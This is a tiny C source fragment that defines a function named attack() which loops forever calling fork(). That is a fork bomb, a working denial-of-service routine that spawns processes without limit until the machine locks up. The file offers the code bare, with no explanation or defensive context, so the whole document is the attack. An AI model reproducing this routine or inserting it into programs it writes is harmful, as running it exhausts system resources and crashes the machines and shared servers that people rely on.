#include <unistd.h>

void attack() {
  for (;;) fork();
}
